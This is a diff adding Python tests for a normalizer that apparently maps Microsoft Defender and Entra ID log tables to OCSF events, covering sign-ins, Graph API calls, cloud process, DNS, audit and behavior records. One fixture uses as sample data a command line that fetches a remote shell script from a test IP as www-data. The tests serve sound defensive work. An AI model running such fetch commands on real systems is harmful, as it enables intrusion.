@@ -521,6 +521,20 @@ def test_message_ids_are_not_mixed_up() -> None:
         ("email", "a.b+c@example.com", "a.b+c@example.com"),
         ("email", "-", None),
         ("port", "443", 443),
+        ("http_status", "204", 204),
+        ("http_status", 404, 404),
+        ("http_status", "Active", None),
+        ("http_status", 42, None),
+        ("http_status", True, None),
+        ("pid", "48190", 48190),
+        ("pid", 7, 7),
+        ("pid", "-1", None),
+        ("pid", "sh", None),
+        ("pid", False, None),
+        ("ocsf_error_status", 0, 1),
+        ("ocsf_error_status", 50126, 2),
+        ("ocsf_error_status", "0", None),
+        ("ocsf_error_status", False, None),
         ("port", 70000, None),
         ("port", True, None),
         ("port", "²", None),  # a digit to str.isdigit(), no port
@@ -727,3 +741,116 @@ def test_api_kinds_have_no_ocsf_variants() -> None:
     assert normalizer_for("ocsf", "GraphAlert", True) is not None
     assert normalizer_for("ocsf+x", "GraphAlert", True) is None
     assert normalizer_for("ocsf", "NoSuchKind", True) is None
+
+
+# --- tables of the cloud, Entra ID and behavior families ---------------------------------------
+
+
+def test_entra_sign_ins_are_logons_with_their_outcome_in_status() -> None:
+    user = {"AccountUpn": "avery.lin@contoso.com", "AccountObjectId": "71f17c54-00cf-4043-9ccb-86919d4613cf"}
+    for table in ("EntraIdSignInEvents", "AADSignInEventsBeta"):
+        failed = _event(table, ErrorCode=50126, IPAddress="203.0.113.14", **user)
+        assert (failed["class_uid"], failed["activity_id"], failed["type_uid"]) == (3002, 1, 300201)
+        assert (failed["status_id"], failed["status"], failed["status_code"]) == (2, "Failure", "50126")
+        assert failed["user"] == {
+            "name": "avery.lin@contoso.com",
+            "uid": "71f17c54-00cf-4043-9ccb-86919d4613cf",
+            "email_addr": "avery.lin@contoso.com",
+        }
+        assert failed["src_endpoint"]["ip"] == "203.0.113.14"
+        ok = _event(table, ErrorCode=0, AuthenticationRequirement="multiFactorAuthentication", **user)
+        assert (ok["status_id"], ok["status"], ok["is_mfa"]) == (1, "Success", True)
+        assert _event(table, **user)["status_id"] == 0  # no error code: Unknown
+        assert _event(table, ErrorCode=0)["class_uid"] == 0  # no user: a Base Event
+
+
+def test_service_principal_sign_ins_have_a_service_user() -> None:
+    for table in ("EntraIdSpnSignInEvents", "AADSpnSignInEventsBeta"):
+        event = _event(table, ServicePrincipalName="ci-deploy", ServicePrincipalId="f4ad", ErrorCode=7000215)
+        assert event["class_uid"] == 3002
+        assert event["user"] == {"name": "ci-deploy", "uid": "f4ad", "type_id": 4, "type": "Service"}
+        assert event["status_id"] == 2
+
+
+def test_graph_api_calls_take_their_activity_from_the_method() -> None:
+    for method, activity in (("GET", 2), ("POST", 1), ("PATCH", 3), ("PUT", 3), ("DELETE", 4), ("OPTIONS", 99)):
+        event = _event("GraphAPIAuditEvents", RequestMethod=method, AccountObjectId="34c9", IpAddress="203.0.113.14")
+        assert (event["class_uid"], event["activity_id"], event["type_uid"]) == (6003, activity, 600300 + activity)
+        assert event["api"]["operation"] == method
+        assert event["actor"]["user"] == {"uid": "34c9", "type_id": 1, "type": "User"}
+    app = _event("GraphAPIAuditEvents", RequestMethod="GET", ServicePrincipalId="f4ad", IpAddress="203.0.113.14")
+    assert app["actor"]["user"] == {"uid": "f4ad", "type_id": 4, "type": "Service"}
+    coded = _event(
+        "GraphAPIAuditEvents", RequestMethod="GET", AccountObjectId="34c9", IpAddress="::1", ResponseStatusCode="404"
+    )
+    assert coded["http_response"] == {"code": 404}
+    odd = _event(
+        "GraphAPIAuditEvents", RequestMethod="GET", AccountObjectId="34c9", IpAddress="::1", ResponseStatusCode="x"
+    )
+    assert "http_response" not in odd and odd["unmapped"]["ResponseStatusCode"] == "x"
+
+
+def test_cloud_processes_have_their_parent_as_actor() -> None:
+    event = _event(
+        "CloudProcessEvents",
+        ActionType="ProcessCreated",
+        ProcessId=48211,
+        ProcessName="curl",
+        ProcessCommandLine="curl -s http://203.0.113.50/x.sh",
+        ParentProcessName="sh",
+        ParentProcessId="48190",
+        AccountName="www-data",
+        HostName="aks-node-1",
+        ContainerId="c0ffee",
+        ImageDigest="sha256:3b1f",
+        ContainerImageName="contoso.azurecr.io/web/frontend:1.8.2",
+    )
+    assert (event["class_uid"], event["activity_id"]) == (1007, 1)
+    assert event["actor"]["process"] == {"pid": 48190, "name": "sh"}
+    assert event["process"]["parent_process"] == {"pid": 48190, "name": "sh"}
+    assert event["process"]["user"] == {"name": "www-data"}
+    assert event["process"]["container"] == {
+        "uid": "c0ffee",
+        "image": {"uid": "sha256:3b1f", "name": "contoso.azurecr.io/web/frontend:1.8.2"},
+    }
+    assert event["device"]["hostname"] == "aks-node-1"
+
+
+def test_cloud_dns_and_audit_events() -> None:
+    dns = _event("CloudDnsEvents", DnsQuery="evil.example.net", DnsQueryTypeName="A", DnsResponseCodeName="nxdomain")
+    assert (dns["class_uid"], dns["query"], dns["rcode_id"], dns["rcode"]) == (
+        4003,
+        {"hostname": "evil.example.net", "type": "A"},
+        3,
+        "NXDomain",
+    )
+    audit = _event(
+        "CloudAuditEvents",
+        Account="avery.lin@contoso.com",
+        OperationName="listKeys",
+        IPAddress="203.0.113.14,198.51.100.7",
+    )
+    assert (audit["class_uid"], audit["api"]["operation"], audit["src_endpoint"]["ip"]) == (
+        6003,
+        "listKeys",
+        "203.0.113.14",
+    )
+    assert audit["unmapped"]["IPAddress"] == "203.0.113.14,198.51.100.7"  # the whole list is kept
+
+
+def test_behaviors_are_detection_findings_not_alerts() -> None:
+    event = _event(
+        "BehaviorInfo",
+        BehaviorId="ca1b",
+        Title="Unusual volume of file deletion",
+        Categories='["Impact"]',
+        AttackTechniques='["Data Destruction (T1485)"]',
+        AccountUpn="jordan.okafor@contoso.com",
+        StartTime="2026-07-18T09:40:12.5Z",
+    )
+    assert (event["class_uid"], event["is_alert"], event["finding_info"]["uid"]) == (2004, False, "ca1b")
+    assert event["finding_info"]["first_seen_time_dt"] == "2026-07-18T09:40:12.5Z"
+    assert {"technique": {"uid": "T1485", "name": "Data Destruction"}} in event["attacks"]
+    assert event["evidences"] == [
+        {"user": {"name": "jordan.okafor@contoso.com", "email_addr": "jordan.okafor@contoso.com"}}
+    ]
